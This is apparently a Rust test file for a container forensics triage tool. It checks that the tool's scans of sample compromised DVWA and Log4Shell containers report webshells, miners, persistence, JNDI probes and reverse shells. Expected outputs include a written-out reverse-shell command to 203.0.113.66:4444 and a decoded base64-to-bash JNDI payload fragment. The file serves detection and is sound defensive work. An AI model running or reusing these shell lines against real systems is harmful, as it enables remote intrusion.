@@ -1,0 +1,160 @@
+//! End to end on the bundled samples: `ctriage scan samples/<bundle>` reports what
+//! samples/README.md says a correct analysis reports, in text and in schema-valid JSON.
+
+use serde_json::Value;
+
+use crate::util::{root, run, run_json, sha256_file, validate_against_schema};
+
+fn scan(bundle: &str) -> (Value, i32) {
+    let p = root().join("samples").join(bundle);
+    let (v, code) = run_json(&["scan", p.to_str().unwrap()]);
+    validate_against_schema(&v);
+    (v, code)
+}
+
+fn rules(b: &Value) -> Vec<String> {
+    b["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap().to_string()).collect()
+}
+
+fn finding<'a>(b: &'a Value, rule: &str, needle: &str) -> &'a Value {
+    b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| {
+            f["rule"] == rule
+                && (f["title"].as_str().unwrap().contains(needle)
+                    || f["summary"].as_str().unwrap().contains(needle))
+        })
+        .unwrap_or_else(|| panic!("no {rule} finding mentioning {needle}; have {:?}", rules(b)))
+}
+
+fn custody_matches_sha256sum(b: &Value, bundle: &str) {
+    let arts = b["artifacts"].as_array().unwrap();
+    assert!(arts.len() >= 8);
+    for a in arts {
+        let p = root().join("samples").join(bundle).join(a["path"].as_str().unwrap());
+        assert_eq!(a["sha256"].as_str().unwrap(), sha256_file(&p), "{p:?}");
+    }
+}
+
+#[test]
+fn dvwa_bundle_tells_the_whole_story() {
+    let (v, code) = scan("dvwa");
+    assert_eq!(code, 1, "high findings, all evidence readable");
+    let b = &v["bundles"][0];
+    custody_matches_sha256sum(b, "dvwa");
+    let kinds: Vec<&str> =
+        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
+    for k in ["diff", "ps", "filesystem-tar", "docker-save", "inspect", "json-file-log", "stats", "top"] {
+        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
+    }
+    // Container, image, ports.
+    let c = &b["containers"][0];
+    assert_eq!(c["name"], "dvwa");
+    assert_eq!(c["image"], "sagikazarmark/dvwa");
+    assert_eq!(c["network"]["ip_address"], "172.17.0.2");
+    let ports = c["network"]["ports"].as_array().unwrap();
+    assert!(ports
+        .iter()
+        .any(|p| p["host_ip"] == "0.0.0.0" && p["host_port"] == "81" && p["container_port"] == "80"));
+    assert!(ports.iter().any(|p| p["container_port"] == "3306" && p.get("host_port").is_none()));
+    // Stats: about 76 MiB of 3.686 GiB, 27 PIDs, CPU pegged.
+    let s = &b["stats"][0];
+    assert_eq!(s["pids"], 27);
+    assert_eq!(s["mem_usage_bytes"], 79_796_634);
+    assert!(s["cpu_percent"].as_f64().unwrap() > 190.0);
+    // Processes: apache worker -> sh -> bash reverse shell, and the miner.
+    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
+    assert!(procs.iter().any(|p| p["pid"] == 31877 && p["ppid"] == 23492));
+    assert!(finding(b, "proc.revshell", "203.0.113.66:4444")["severity"] == "critical");
+    finding(b, "proc.lineage.server-shell", "apache2 (23492)");
+    finding(b, "proc.miner", "kdevtmpfsi");
+    // docker diff, saved and rebuilt offline from export + image.
+    assert_eq!(b["diff"].as_array().unwrap().len(), 32);
+    let cc = &b["container_changes"];
+    assert!(cc["base"]["description"].as_str().unwrap().contains("the image the container ran from"));
+    assert!(cc["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|ch| ch["change"] == "added" && ch["path"] == "/var/www/html/hackable/uploads/shell.php"));
+    // Files: webshell, uid-0 account, cron persistence, timestomp, wiped history, miner.
+    let web = finding(b, "file.webshell.php", "/var/www/html/hackable/uploads/shell.php");
+    assert!(web["evidence"].as_array().unwrap().len() >= 2, "export and commit layer both prove it");
+    finding(b, "file.account.uid0", "/etc/passwd");
+    finding(b, "file.persistence.cron", "/etc/cron.d/php-sess-clean");
+    finding(b, "file.timestomp", "/etc/cron.d/php-sess-clean");
+    finding(b, "file.antiforensics.history", "/root/.bash_history");
+    finding(b, "file.miner", "/tmp/kdevtmpfsi");
+    // Logs: JNDI probes, including the one split over 16 KiB json-file records.
+    let hits = b["log_hits"].as_array().unwrap();
+    let decoded: Vec<&str> = hits.iter().filter_map(|h| h["jndi"]["decoded"].as_str()).collect();
+    assert!(decoded.iter().any(|d| d.contains("198.51.100.23:1389/wafbypass")), "{decoded:?}");
+    assert!(b["iocs"].as_array().unwrap().iter().any(|i| i["value"] == "198.51.100.23"));
+    // Exposure and the plan.
+    finding(b, "exposure.env-secrets", "MYSQL_ROOT_PASSWORD");
+    let plan: Vec<&str> =
+        b["response_plan"].as_array().unwrap().iter().map(|s| s["step"].as_str().unwrap()).collect();
+    assert!(plan.iter().any(|s| s.starts_with("Freeze")) && plan.last().unwrap().starts_with("Kill"));
+    assert!(b["timeline"].as_array().unwrap().len() > 20);
+    assert!(!v.to_string().contains("p4ssw0rd"), "secret values never reach the report");
+}
+
+#[test]
+fn log4shell_bundle_tells_the_whole_story() {
+    let (v, code) = scan("log4shell");
+    assert_eq!(code, 1);
+    let b = &v["bundles"][0];
+    custody_matches_sha256sum(b, "log4shell");
+    assert_eq!(b["containers"][0]["name"], "log4shell-app");
+    finding(b, "proc.lineage.server-shell", "java (84010) -> bash (84281)");
+    finding(b, "proc.revshell", "203.0.113.66:4444");
+    let jndi = b["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|h| h["jndi"]["host"] == "203.0.113.66")
+        .expect("the JNDIExploit request");
+    assert_eq!(jndi["jndi"]["port"], 1389);
+    assert!(
+        jndi["jndi"]["command"].as_str().unwrap().contains("{base64,-d}|{bash,-i}"),
+        "decoded command: {jndi:#}"
+    );
+    assert!(b["log_hits"].as_array().unwrap().iter().any(|h| h["jndi"]["host"] == "198.51.100.23"));
+    finding(b, "file.webshell.jsp", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp");
+    finding(b, "file.persistence.ssh-keys", "/root/.ssh/authorized_keys");
+    assert!(rules(b).iter().any(|r| r.starts_with("file.log4j")), "{:?}", rules(b));
+    assert!(
+        rules(b).iter().any(|r| r.contains("docker-sock") || r.contains("runtime-socket")),
+        "{:?}",
+        rules(b)
+    );
+    // Correlations: the callback host is in the logs and in the processes; the webshell
+    // dropped on disk is requested in the access log; the chain starts with the JNDI request.
+    finding(b, "correlate.callback-in-process", "203.0.113.66");
+    finding(b, "correlate.webshell-used", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp");
+    let chain = finding(b, "correlate.attack-chain", "way in: Log4Shell");
+    assert_eq!(chain["time"], "2026-11-27T14:19:42.000000000Z");
+}
+
+#[test]
+fn dvwa_text_report_names_what_an_analyst_looks_for() {
+    let out = run(&["scan", root().join("samples/dvwa").to_str().unwrap()]);
+    let text = String::from_utf8(out.stdout).unwrap();
+    for needle in [
+        "dvwa",
+        "sagikazarmark/dvwa",
+        "0.0.0.0:81->80/tcp",
+        "31877",
+        "bash -i >& /dev/tcp/203.0.113.66/4444",
+        "76.10 MiB",
+        "A /var/www/html/hackable/uploads/shell.php",
+        "D /root/.bash_history",
+        "Response plan",
+    ] {
+        assert!(text.contains(needle), "text report lacks {needle:?}");
+    }
+    let sha = sha256_file(&root().join("samples/dvwa/inspect.json"));
+    assert!(text.contains(&sha), "artifact hashes are listed");
+}
